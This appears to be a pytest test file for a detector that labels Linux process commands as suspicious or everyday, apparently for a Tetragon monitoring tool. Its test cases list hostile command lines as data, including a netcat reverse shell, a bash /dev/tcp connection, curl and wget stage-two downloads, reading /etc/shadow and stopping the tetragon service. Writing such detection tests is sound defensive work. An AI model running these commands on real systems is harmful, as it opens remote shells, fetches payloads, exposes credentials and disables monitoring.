"""Which commands no draft learns by itself."""

from __future__ import annotations

import pytest

from tetratui.core.table import EventTable
from tetratui.core.tuning.learning.suspicious_commands import NONE, Suspicion, suspect_children, suspect_command


@pytest.mark.parametrize(
    ("binary", "arguments", "reason"),
    [
        ("/tmp/inventory.sh", "/tmp/inventory.sh", Suspicion.WRITABLE),
        ("/usr/bin/bash", "/home/eve/inventory.sh", Suspicion.WRITABLE),
        ("/dev/fd/3", "x", Suspicion.WRITABLE),
        ("/usr/bin/x (deleted)", "", Suspicion.WRITABLE),
        ("/usr/bin/cp", "/bin/true /tmp/.a/stage2", Suspicion.WRITABLE),
        ("/usr/bin/install", "-m 755 agent /dev/shm/agent", Suspicion.WRITABLE),
        ("/usr/bin/chmod", "+x /tmp/u", Suspicion.WRITABLE),
        ("/usr/bin/dd", "if=/dev/stdin of=/tmp/u", Suspicion.WRITABLE),
        ("/usr/bin/curl", "-s -o /opt/x http://203.0.113.66/stage2", Suspicion.DOWNLOAD),
        ("/usr/bin/curl", "-fsSLO http://203.0.113.66/stage2", Suspicion.DOWNLOAD),
        ("/usr/bin/curl", "-s http://203.0.113.66/x.sh", Suspicion.DOWNLOAD),
        ("/usr/bin/wget", "-q http://203.0.113.66/stage2", Suspicion.DOWNLOAD),
        ("/bin/sh", '-c "id; hostname"', Suspicion.SHELL_CODE),
        ("/usr/bin/bash", "", Suspicion.SHELL_CODE),
        ("/usr/bin/bash", '-c "exec 3<>/dev/tcp/10.9.8.7/443"', Suspicion.ATTACK_SAMPLE),
        ("/usr/bin/nc", "-e /bin/sh 10.9.8.7 443", Suspicion.ATTACK_SAMPLE),
        ("/usr/bin/base64", "-d", Suspicion.ATTACK_SAMPLE),
        ("/usr/bin/grep", "root /etc/shadow", Suspicion.ATTACK_SAMPLE),
        ("/usr/bin/chmod", "4755 /usr/local/bin/x", Suspicion.ATTACK_SAMPLE),
        ("/usr/bin/systemctl", "stop tetragon", Suspicion.ATTACK_SAMPLE),
    ],
)
def test_what_looks_like_an_attack_has_its_reason(binary: str, arguments: str, reason: Suspicion) -> None:
    assert suspect_command(binary, arguments, "/", started_by_script=False) & reason


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/curl", "-s -o /dev/null http://10.1.2.3:8080/health"),
        ("/usr/bin/curl", "-s http://203.0.113.10:9100/metrics"),
        ("/usr/bin/wget", "-q -O - http://203.0.113.10:9200/"),
        ("/usr/bin/ssh", "-i /root/.ssh/id_lab deploy@203.0.113.10 uptime"),
        ("/usr/bin/uname", "-a"),
        ("/usr/bin/cat", "/etc/passwd"),
        ("/usr/bin/rm", "-f /tmp/report.1234"),
        ("/usr/bin/chmod", "644 /tmp/report"),
        ("/usr/bin/bash", "/opt/ops/inventory.sh"),
        ("[kworker/u4:3-events_unbound]", ""),
        ("/proc/self/exe", "30"),
        ("", ""),
    ],
)
def test_everyday_commands_have_none(binary: str, arguments: str) -> None:
    assert suspect_command(binary, arguments, "/", started_by_script=False) == NONE


def test_the_working_folder_decides_where_a_relative_script_is() -> None:
    assert suspect_command("/usr/bin/bash", "./x.sh", "/opt/ops", False) == NONE
    assert suspect_command("/usr/bin/bash", "./x.sh", "/tmp/.a", False) == Suspicion.WRITABLE


def test_a_shell_with_code_is_part_of_the_script_that_starts_it_but_its_children_are_not() -> None:
    code = ("/bin/sh", '-c "/usr/bin/php --version || true"')
    assert suspect_command(*code, "/", started_by_script=True) == NONE
    assert suspect_children(*code, "/") == Suspicion.SHELL_CODE


def test_most_of_the_attack_commands_of_a_real_capture_have_a_reason(capture: EventTable, attacks: list[int]) -> None:
    events = [capture.event(row) for row in attacks]
    reasons = [
        suspect_command(event.binary or "", event.arguments or "", event.cwd or "", False)
        | suspect_children(event.parent_binary or "", event.parent_arguments or "", event.parent_cwd or "")
        for event in events
    ]
    assert sum(reason != NONE for reason in reasons) >= 0.6 * len(reasons)
